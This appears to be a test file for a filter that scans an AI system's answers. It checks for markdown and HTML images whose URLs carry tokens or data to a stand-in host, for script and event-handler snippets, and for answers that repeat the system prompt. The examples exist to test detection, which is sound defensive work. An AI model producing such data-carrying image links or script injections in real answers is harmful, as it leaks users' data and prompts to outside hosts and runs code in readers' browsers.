"""What an answer carries away, and what active code it brings."""

import pytest

from pipeline.output import look
from tests.support.spent import spent

LONG = "A" * 40
TOKEN = "<EMAIL_K7QX_1>"


def rules(text: str) -> list[str]:
    return [hit.rule for hit in look([text], [])]


@pytest.mark.parametrize(
    "text",
    [
        f"![i](https://e.example/p?d={TOKEN})",
        f"![i]( http://e.example/{TOKEN})",
        f"![i](https://e.example/?d={LONG})",
        f"![i](https://e.example/{'p' * 900}?d={LONG})",
        f"![i](https://e.example?a={'p' * 30}&d={LONG})",
        f"![a ![i](https://e.example/?d={LONG})",
        f'<img alt="x" SRC = "https://e.example/?d={LONG}">',
        f"<img src=https://e.example/?d={LONG} data-src='https://e.example/'>",
        f"<img data-src='https://e.example/' src=https://e.example/?d={LONG}>",
    ],
)
def test_a_picture_whose_address_carries_something_is_seen(text: str) -> None:
    assert ["output.link"] == rules(f"Look: {text}.")


@pytest.mark.parametrize(
    "text",
    [
        f"[a link](https://e.example/p?d={TOKEN})",
        "![i](https://e.example/p?size=40)",
        f"![i](https://e.example/p?d={LONG[1:]})",
        f"![i](https://{TOKEN.strip('<>')}.example)",
        f"![i]\n(https://e.example/?d={LONG})",
        f"<p>src=https://e.example/?d={LONG}",
        f"<img alt='x'> src=https://e.example/?d={LONG}",
    ],
)
def test_other_addresses_pass(text: str) -> None:
    assert [] == rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>",
        "< iframe src='x'>",
        "[x](javascript:alert(1))",
        "[x]( data:text/html,x)",
        "<a onclick=x>",
        "<div class='a'\tonMouseOver = x>",
        f"<div title='{'t' * 280}' onclick=x>",
        "<p> one <b onerror=x>",
    ],
)
def test_active_code_is_seen(text: str) -> None:
    assert ["output.active"] == rules(f"So: {text}")


@pytest.mark.parametrize(
    "text",
    [
        "<p> onclick= is a handler",
        "<p\nclass='a' onclick=x>",
        "`<a onclick=x>`",
        "a < b and onions = 3",
        "<abcdefghijk onclick=x>",
        "[x](https://e.example/javascript:)",
    ],
)
def test_talk_of_it_passes(text: str) -> None:
    assert [] == rules(text)


@pytest.mark.serial
@pytest.mark.parametrize(
    "unit",
    [
        "![](https://?/&=", "![](https://?a=", "![", "<img", "<img src=", "<img s src",
        "<img src=http", "<script", "<a onabc", "< a onabcd=", "](", "`a",
        "![](http://" + "?=" * 190, "![](http://" + "/<PERSON_" * 40,
    ],
)  # fmt: skip
def test_worst_cases_are_bounded(unit: str) -> None:
    text = unit * (262_144 // len(unit))

    assert spent(lambda: rules(text)) < 2.0


@pytest.mark.serial
def test_many_system_parts_cost_no_more_than_their_length() -> None:
    """A body of 2 MiB has room for them; the answer was cut anew for each."""
    prompts = [
        f"part {n} of what this house tells its model every day" for n in range(20_000)
    ]
    answer = " ".join(f"word{n}" for n in range(4_000))

    assert spent(lambda: list(look([answer, answer], prompts))) < 2.0


def test_each_text_is_held_against_each_prompt_alone() -> None:
    words = [f"word{n}" for n in range(40)]
    prompt = " ".join(words)
    told, half, other = " ".join(words[:25]), " ".join(words[:18]), "nothing of it"

    assert ["output.prompt"] == [h.rule for h in look([other, told], [other, prompt])]
    assert [] == list(look([half, " ".join(words[18:30])], [prompt, prompt]))
